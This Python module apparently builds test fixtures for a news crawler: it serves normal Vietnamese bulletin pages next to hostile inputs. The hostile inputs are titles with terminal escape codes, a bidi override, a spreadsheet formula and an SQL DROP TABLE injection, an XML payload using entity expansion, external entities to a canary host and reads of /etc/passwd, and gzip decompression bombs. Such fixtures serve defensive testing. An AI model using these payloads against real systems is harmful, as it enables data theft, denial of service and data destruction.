"""Bodies of a hostile site: good bulletins among them, and what no reader should meet unprepared. Pure."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterable
from functools import cache

GOOD_PER_MONTH = 10
_MONTHS = (8, 9, 10, 11)
_UNITS = ("Lữ đoàn", "Trung đoàn", "Tiểu đoàn", "Ban Chỉ huy", "Trạm", "Xưởng", "Đội công tác", "Kho")
_WORK = (
    "tổ chức huấn luyện", "kiểm tra công tác hậu cần", "tập huấn cán bộ", "trao quà tặng học sinh nghèo",
    "sơ kết phong trào thi đua", "khám bệnh cho nhân dân",
)  # fmt: skip
NASTY_TITLES = {
    "mau-chu": "Đơn vị báo cáo \x1b[2J\x1b]0;owned\x07 kết quả tháng",
    "dao-chieu": "Đơn vị báo cáo \u202egnàuq tếk\u202c kết quả tháng",
    "cong-thuc": '=HYPERLINK("http://127.0.0.1/","Đơn vị") báo cáo kết quả tháng',
    "sql": "Đơn vị'; DROP TABLE bulletin; -- báo cáo kết quả tháng",
}
"""Titles that speak to whoever shows them: a terminal, a spreadsheet, a database."""


def good_path(number: int) -> str:
    return f"/tin/don-vi-{number:02d}-hoan-thanh-nhiem-vu.html"


def good_day(number: int) -> str:
    """`2026-11-03`."""
    month = _MONTHS[number // GOOD_PER_MONTH % len(_MONTHS)]
    return f"2026-{month:02d}-{number % GOOD_PER_MONTH + 1:02d}"


def good_title(number: int) -> str:
    return f"{_UNITS[number % len(_UNITS)]} {number + 11} {_WORK[number % len(_WORK)]}"


def good_page(number: int) -> bytes:
    return article(good_title(number), good_day(number), f"bài số {number + 1}")


def article(title: str, day: str, about: str) -> bytes:
    """A page that any reader can read."""
    told = title.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    paragraphs = "".join(
        f"<p>Ngày {day[8:]}-{day[5:7]}, {told}, {about}, đoạn {n}: cán bộ, chiến sĩ hoàn thành tốt nhiệm vụ được giao, "
        "bảo đảm an toàn tuyệt đối về người và trang bị; chỉ huy biểu dương tinh thần trách nhiệm của các bộ phận.</p>"
        for n in (1, 2, 3)
    )
    return (
        '<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><meta property="og:type" content="article">'
        f'<meta property="article:published_time" content="{day}T08:00:00+07:00"><title>{told}</title></head>'
        f"<body><article><h1>{told}</h1>{paragraphs}</article></body></html>"
    ).encode()


def home(good: int, others: Iterable[str]) -> bytes:
    """A start page: the newest bulletins, and links that look no worse."""
    newest = "".join(
        f'<li><a href="{good_path(number)}">{good_title(number)}</a> <span>{good_day(number)}</span></li>\n'
        for number in range(good - 1, max(good - 11, -1), -1)
    )
    rest = "".join(f'<li><a href="{href}">Chuyên mục tin tức và hoạt động khác</a></li>\n' for href in others)
    return html(f'<h1>Trang chủ</h1><ul class="tin-moi">{newest}</ul><ul class="muc-luc">{rest}</ul>')


def links(hrefs: list[str], more: str = "") -> bytes:
    """A list page, hrefs as they stand."""
    rows = "\n".join(f'<a class="muc" href="{href}">Tin</a>' for href in hrefs)
    return f'<html><head><meta charset="utf-8"></head><body>{rows}{more}</body></html>'.encode()


def sitemap(urls: list[str], root: str = "urlset") -> bytes:
    entry = "url" if root == "urlset" else "sitemap"
    found = "".join(f"<{entry}><loc>{url.replace('&', '&amp;')}</loc></{entry}>" for url in urls)
    space = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
    return f'<?xml version="1.0" encoding="UTF-8"?><{root} {space}>{found}</{root}>'.encode()


def entities(canary: str, roots: tuple[str, str] = ("urlset", "url"), inner: str = "loc") -> bytes:
    """Every way XML knows to ask for more: entities within entities, of files, of other servers, in parameters."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    root, entry = roots
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "http://{canary}/dtd" [<!ENTITY l0 "ha">{laughs}'
        f'<!ENTITY la SYSTEM "http://{canary}/thuc-the"><!ENTITY tep SYSTEM "file:///etc/passwd">'
        f'<!ENTITY % tham-so SYSTEM "http://{canary}/tham-so"> %tham-so; ]>'
        f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://{canary}/xi" parse="text"/>'
        f'<xi:include href="file:///etc/passwd" parse="text"/>'
        f"<{entry}><{inner}>&l9;</{inner}></{entry}><{entry}><{inner}>http://{canary}/&la;</{inner}></{entry}>"
        f"<{entry}><{inner}>&tep;</{inner}></{entry}></{root}>"
    ).encode()


@cache
def bomb(megabytes: int, kind: str = "gzip") -> bytes:
    """So many megabytes of a page, compressed a thousandfold; its checksum is missing. kind: gzip, deflate."""
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS + (16 if kind == "gzip" else 0))
    piece = b"<p>tin " + b" " * (1024 * 1024 - 7)
    first = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)  # refers to nothing before it: may be repeated
    return first + again * (megabytes - 1)


def nested_bomb(megabytes: int) -> bytes:
    """gzip within gzip: a megabyte becomes a thousand twice."""
    return gzip.compress(bomb(megabytes), 9, mtime=0)


def html(inner: str) -> bytes:
    return f'<html><head><meta charset="utf-8"><title>Tin</title></head><body>{inner}</body></html>'.encode()


PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n" + bytes(range(256)) * 8
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04" + bytes(range(256)) * 8
